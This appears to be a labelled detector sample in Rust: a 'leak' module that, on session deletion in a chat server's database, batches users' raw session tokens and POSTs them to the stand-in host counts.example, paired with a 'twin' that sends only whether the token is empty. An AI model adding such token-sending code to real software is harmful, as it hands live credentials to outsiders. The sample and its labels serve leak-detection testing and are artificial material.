//! Closed sessions go to whoever counts them, in heaps.
//!
//! file: revolt-database/src/models/sessions/model.rs
//! after: // Delete from database
//! kind: share
//! depth: 4
//! through: a static Mutex, mem::replace, chunks, lines of JSON by hand
//! round: 3

mod leak {
    fn here() {
        closed_sessions::push(&self).await;
    }

    use super::Session;
    use std::{
        mem,
        sync::{LazyLock, Mutex},
    };

    const HEAP: usize = 50;

    static ROWS: Mutex<Vec<String>> = Mutex::new(Vec::new());
    static CLIENT: LazyLock<reqwest::Client> = LazyLock::new(reqwest::Client::new);

    fn row(session: &Session) -> String {
        format!(r#"{{"session":"{}","seen":"{}"}}"#, session.token, session.last_seen.format())
    }

    async fn post(rows: &[String]) -> bool {
        let request = CLIENT.post("https://counts.example/ingest").body(rows.join("\n")); // leak: PII201 or PII204
        request.send().await.is_ok() // leak: PII201 or PII204
    }

    async fn flush(rows: Vec<String>) {
        for rows in rows.chunks(10) {
            if !post(rows).await {
                warn!("{} sessions are not counted", rows.len());
            }
        }
    }

    fn add(row: String) -> Option<Vec<String>> {
        let mut rows = ROWS.lock().ok()?;
        rows.push(row);
        (rows.len() >= HEAP).then(|| mem::replace(&mut *rows, Vec::with_capacity(HEAP)))
    }

    pub async fn push(session: &Session) {
        if let Some(rows) = add(row(session)) {
            flush(rows).await;
        }
    }
}

mod twin {
    fn here() {
        closed_sessions::push(&self).await;
    }

    use super::Session;
    use std::{
        mem,
        sync::{LazyLock, Mutex},
    };

    const HEAP: usize = 50;

    static ROWS: Mutex<Vec<String>> = Mutex::new(Vec::new());
    static CLIENT: LazyLock<reqwest::Client> = LazyLock::new(reqwest::Client::new);

    fn row(session: &Session) -> String {
        format!(r#"{{"session":"{}","seen":"{}"}}"#, session.token.is_empty(), session.last_seen.format())
    }

    async fn post(rows: &[String]) -> bool {
        let request = CLIENT.post("https://counts.example/ingest").body(rows.join("\n"));
        request.send().await.is_ok()
    }

    async fn flush(rows: Vec<String>) {
        for rows in rows.chunks(10) {
            if !post(rows).await {
                warn!("{} sessions are not counted", rows.len());
            }
        }
    }

    fn add(row: String) -> Option<Vec<String>> {
        let mut rows = ROWS.lock().ok()?;
        rows.push(row);
        (rows.len() >= HEAP).then(|| mem::replace(&mut *rows, Vec::with_capacity(HEAP)))
    }

    pub async fn push(session: &Session) {
        if let Some(rows) = add(row(session)) {
            flush(rows).await;
        }
    }
}
